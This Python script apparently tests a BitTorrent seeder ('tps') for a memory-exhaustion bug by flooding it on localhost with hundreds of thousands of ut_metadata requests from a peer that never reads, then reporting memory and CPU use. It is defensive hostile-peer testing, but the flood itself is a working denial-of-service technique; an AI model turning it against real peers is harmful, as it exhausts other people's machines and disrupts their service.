#!/usr/bin/python3
"""Issue 19, 5: a ut_metadata request flood against `tps seed`. One peer handshakes (BEP 10), sends --requests
metadata requests in one go and never reads; the seeder's memory is sampled for --seconds, then the peer hangs up and
it is sampled again. The torrent (64 MiB in 256 KiB pieces) has an info dictionary of about 5.2 KB.

    python3 metadata_flood.py --tps path/to/tps [--requests 200000] [--seconds 10]
"""
import argparse
import shutil
import socket
import time

from hostile_common import bencode, extended, free_port, handshake, make_torrent, seed, temp_folder, tps_command

OUR_UT_METADATA = 3
THEIR_UT_METADATA = 1  # what tps says in its extension handshake


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--tps", required=True)
    parser.add_argument("--requests", type=int, default=200_000)
    parser.add_argument("--seconds", type=float, default=10)
    args = parser.parse_args()

    folder = temp_folder("tps-mflood-")
    try:
        torrent, info_hash, raw_info = make_torrent(folder, "flood.bin", 64 * 1024 * 1024, 256 * 1024)
        port = free_port()
        seeder = seed(tps_command(args.tps), torrent, folder, port)
        time.sleep(3)  # the check of the data
        baseline = seeder.rss_mib()

        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.bind(("127.0.0.251", 0))
        s.connect(("127.0.0.1", port))
        handshake(s, info_hash, extensions=True)
        flood = extended(0, bencode({"m": {"ut_metadata": OUR_UT_METADATA}}))
        flood += extended(THEIR_UT_METADATA, bencode({"msg_type": 0, "piece": 0})) * args.requests
        started = time.time()
        s.settimeout(60)
        try:
            s.sendall(flood)
            sent = "all sent in %.2f s" % (time.time() - started)
        except OSError as e:
            sent = "sending failed after %.2f s (%s)" % (time.time() - started, e)

        peak, samples = baseline, []
        while time.time() - started < args.seconds:
            rss = seeder.rss_mib()
            peak = max(peak, rss)
            samples.append(rss)
            time.sleep(0.1)
        at_end = seeder.rss_mib()
        closed = "open"
        s.setblocking(False)
        try:
            if s.recv(1, socket.MSG_PEEK) == b"":
                closed = "closed by the seeder"
        except BlockingIOError:
            closed = "open"
        except OSError as e:
            closed = "closed by the seeder (%s)" % e.__class__.__name__
        s.close()
        time.sleep(5)
        print("tps:", args.tps)
        print("info dictionary: %d bytes; %d requests, %s; the connection after %.0f s: %s" % (
            len(raw_info), args.requests, sent, args.seconds, closed))
        print("seeder RSS: %.0f MiB before, %.0f MiB peak (VmHWM %.0f), %.0f MiB at %.0f s, %.0f MiB 5 s after the peer left; CPU %.1f s" % (
            baseline, peak, seeder.peak_mib(), at_end, args.seconds, seeder.rss_mib(), seeder.cpu_seconds()))
        seeder.stop()
    finally:
        shutil.rmtree(folder, ignore_errors=True)


if __name__ == "__main__":
    main()
